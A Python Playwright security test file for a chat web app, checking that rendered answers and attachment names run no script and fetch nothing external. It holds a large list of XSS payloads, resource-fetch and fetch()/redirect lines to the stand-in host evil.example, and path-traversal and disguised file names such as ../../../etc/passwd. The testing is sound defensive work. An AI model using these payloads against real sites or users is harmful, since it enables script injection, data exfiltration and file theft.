"""Whatever a model, a file or a name holds: no script runs and nothing is fetched from elsewhere."""
import zipfile

from playwright.sync_api import expect

from app import api, make_chat, open_chat

RUN = "window.owned=1;document.title='owned'"
SCRIPTS = [
    "<script>{}</script>", "<img src=x onerror=\"{}\">", "<svg onload=\"{}\"></svg>", "<svg><script>{}</script></svg>",
    "<iframe srcdoc=\"<script>parent.{}</script>\"></iframe>", "<a href=\"javascript:{}\">click</a>",
    "<body onload=\"{}\">", "<details open ontoggle=\"{}\">x</details>", "<video><source onerror=\"{}\"></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"{}\"></style></mglyph></table></mtext></math>",
    "<form><button formaction=\"javascript:{}\">x</button></form>", "<input autofocus onfocus=\"{}\">",
    "<object data=\"data:text/html,<script>{}</script>\"></object>", "<embed src=\"javascript:{}\">",
    "<link rel=stylesheet href=\"javascript:{}\">", "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
    "<svg><a xlink:href=\"javascript:{}\"><text y=20>x</text></a></svg>", "<svg><animate onbegin=\"{}\" attributeName=x dur=1s></svg>",
    "<svg><foreignObject><img src=x onerror=\"{}\"></foreignObject></svg>", "<noscript><p title=\"</noscript><img src=x onerror='{}'>\">",
    "<textarea><img title=\"</textarea><img src=x onerror={}>\">", "<template><script>{}</script></template>",
    "<select><option><script>{}</script></select>", "<p style=\"background:url(javascript:{})\">x</p>",
    "<x onclick=\"{}\" tabindex=1 autofocus onfocus=\"{}\">x</x>", "<marquee onstart=\"{}\">x</marquee>",
    "<isindex type=image src=1 onerror=\"{}\">", "<a href=\"data:text/html,<script>{}</script>\">d</a>",
    "<a href=\"vbscript:{}\">v</a>", "<a href=\" &#106;avascript:{}\">e</a>",
]
FETCHES = [
    "![p](https://evil.example/p.png)", "<img src=https://evil.example/i.png>", "<img srcset=\"https://evil.example/s.png 1x\">",
    "<link rel=stylesheet href=https://evil.example/s.css>", "<style>@import 'https://evil.example/i.css';</style>",
    "<p style=\"background:url(https://evil.example/b.png)\">x</p>", "<iframe src=https://evil.example/f></iframe>",
    "<object data=https://evil.example/o></object>", "<video src=https://evil.example/v poster=https://evil.example/q></video>",
    "<audio src=https://evil.example/a autoplay></audio>", "<embed src=https://evil.example/e>",
    "<svg><image href=https://evil.example/g.png /></svg>", "<svg><use href=https://evil.example/u.svg#x /></svg>",
    "<base href=https://evil.example/>", "<input type=image src=https://evil.example/n.png>",
    "<a ping=https://evil.example/ping href=#x>p</a>", "<script src=https://evil.example/s.js></script>",
    "<link rel=prefetch href=https://evil.example/pf>", "<table background=https://evil.example/t.png><tr><td>x</table>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/m\">", "<svg><filter><feImage href=https://evil.example/fe /></filter></svg>",
    "[l]: https://evil.example/ref.png\n\n![r][l]", "![d](data:image/svg+xml,<svg/onload=alert(1)>)",
]
# Where such a thing may stand.
PLACES = [
    "{}", "text {} text", "> {}", "- {}", "| a |\n|---|\n| {} |", "# {}", "**{}**", "[{}](https://example.com)", "```{}\ncode\n```",
    "```html\n{}\n```", "$$\\text{{{}}}$$", "```abc\nX:1\nT:{}\nK:C\nC\n```",
]


def payloads():
    hostile = [s.replace("{}", RUN) for s in SCRIPTS] + FETCHES
    for n, one in enumerate(hostile):
        for k in range(6):
            yield PLACES[(n + 2 * k + k // 3) % len(PLACES)].replace("{}", one)


def test_three_hundred_hostile_answers(browser, server):
    everything = list(payloads())
    assert len(everything) >= 300
    chat = make_chat(server, SCRIPTS[0].replace("{}", RUN), [("assistant", p) for p in everything] +
                     [("user", p) for p in everything[:30]])
    page = browser.new_page()
    foreign, dialogs = [], []
    page.on("request", lambda r: foreign.append(r.url)
            if not r.url.startswith((server.url, "data:", "blob:")) else None)
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    open_chat(page, server, chat)
    expect(page.locator(".turn")).to_have_count(len(everything) + 30)
    # Each is drawn when it is seen.
    page.evaluate("""async () => {
        for (const turn of document.querySelectorAll('.turn')) {
            turn.scrollIntoView();
            await new Promise(requestAnimationFrame);
        }
        for (const link of document.querySelectorAll('main a:not([href^="http"])')) {
            link.removeAttribute('target');
            link.click();
        }
    }""")
    page.wait_for_timeout(1500)  # For what would load later.
    assert foreign == [] and dialogs == []
    assert page.evaluate("window.owned") is None and page.title() == "Tiro"
    assert page.locator("main script, main iframe, main object, main embed, main form:not(.editor), main style:not(.staff *)").count() == 0
    assert page.locator("main [onclick], main [onerror], main [onload], main [style*=url]").count() == 0
    page.close()
    api(server, "DELETE", f"/v1/tiro/chats/{chat}")


def test_a_page_in_an_answer_has_no_origin_and_no_network(browser, server):
    text = """```html
<h1>Shown</h1><img src="https://evil.example/i.png">
<script>
console.log("ran " + (1 + 1));
try { parent.document.title = "owned"; } catch (e) { console.log("no parent"); }
try { localStorage.x = 1; } catch (e) { console.log("no storage"); }
fetch("https://evil.example/f").catch(() => console.log("no fetch"));
setTimeout(() => { location = "https://evil.example/away"; }, 200);
</script>
```
"""
    chat = make_chat(server, "A page", [("assistant", text)])
    page = browser.new_page()
    reached = []
    page.on("response", lambda r: reached.append(r.url) if not r.url.startswith(server.url) else None)
    open_chat(page, server, chat)
    page.get_by_role("button", name="Run").click()
    console = page.get_by_label("Console")
    for words in ("ran 2", "no parent", "no storage", "no fetch"):
        expect(console).to_contain_text(words)
    page.wait_for_timeout(800)
    assert reached == [] and page.title() == "Tiro"
    page.close()
    api(server, "DELETE", f"/v1/tiro/chats/{chat}")


NAMES = [
    "../../../etc/passwd", "/etc/shadow.py", "..\\\\..\\\\boot.ini", "C:\\\\Windows\\\\win.ini", "~/.ssh/id.txt", "a/../../b.py", "....//c.py",
    "<img/src=x/onerror=window.owned=1>.py", "'onmouseover='owned=1.py", "a\u202egpj.exe", "con.py", "nul:.txt", ".bashrc", "-rf.py",
    "a" * 400 + ".py", "x\u0001y.py", "x%2e%2e%2fy.py", "javascript:owned=1.js", "https://evil.example/n.py", "index.html/x.py", "INDEX.HTML",
    "__proto__.py", "constructor", "toString.js", "\u200b\u2066.py",
]


def test_hostile_file_names(browser, server, tmp_path):
    """Names that lead elsewhere, look like something else, or are markup."""
    blocks = "\n\n".join(f'```python title="{n}"\nx = {i}\ny = 2\n```' for i, n in enumerate(NAMES))
    chat = api(server, "POST", "/v1/tiro/chats", {"title": "Names"})["id"]
    own = [{"name": n.replace("\\\\", "\\"), "text": f"own {i}"} for i, n in enumerate(NAMES)]
    first = api(server, "POST", f"/v1/tiro/chats/{chat}/messages", {
        "role": "user", "content": "Read", "parent_id": "", "details": {"attachments": own}})["id"]
    api(server, "POST", f"/v1/tiro/chats/{chat}/messages", {"role": "assistant", "content": blocks, "parent_id": first})
    page = browser.new_page()
    foreign = []
    page.on("request", lambda r: foreign.append(r.url)
            if not r.url.startswith((server.url, "data:", "blob:")) else None)
    open_chat(page, server, chat)
    page.get_by_role("button", name="Files", exact=True).click()
    panel = page.get_by_role("complementary", name="Files")
    expect(panel.locator(".names button").nth(20)).to_be_attached()
    for one in panel.locator(".names button").all():
        one.click()
    with page.expect_download() as got:
        panel.get_by_role("button", name="Download all").click()
    with zipfile.ZipFile(got.value.path()) as archive:
        names = archive.namelist()
        archive.extractall(tmp_path / "in")
    assert len(names) > 20 and len({n.lower() for n in names}) == len(names)
    for name in names:
        assert not name.startswith(("/", "\\")) and not set(name) & set("\\:<>\"'|?*%\0\u202e\u2066\u200b"), name
        assert not {"..", ".", ""} & set(name.split("/")) and len(name) <= 110, name
    inside = [p for p in (tmp_path / "in").rglob("*") if p.is_file()]
    assert len(inside) == len(names) and len(list(tmp_path.iterdir())) == 1
    assert foreign == [] and page.evaluate("window.owned") is None and page.title() == "Tiro"
    expect(page.locator("main img, aside img")).to_have_count(0)
    page.close()
    api(server, "DELETE", f"/v1/tiro/chats/{chat}")


def test_the_page_says_what_it_may_do(server):
    import urllib.request
    policy = urllib.request.urlopen(server.url + "/").headers["content-security-policy"]
    assert "unsafe" not in policy and "default-src 'none'" in policy and "frame-ancestors 'none'" in policy
    preview = urllib.request.urlopen(server.url + "/preview.html").headers["content-security-policy"]
    assert preview.startswith("sandbox allow-scripts;") and "allow-same-origin" not in preview
    assert "default-src 'none'" in preview and "connect-src" not in preview
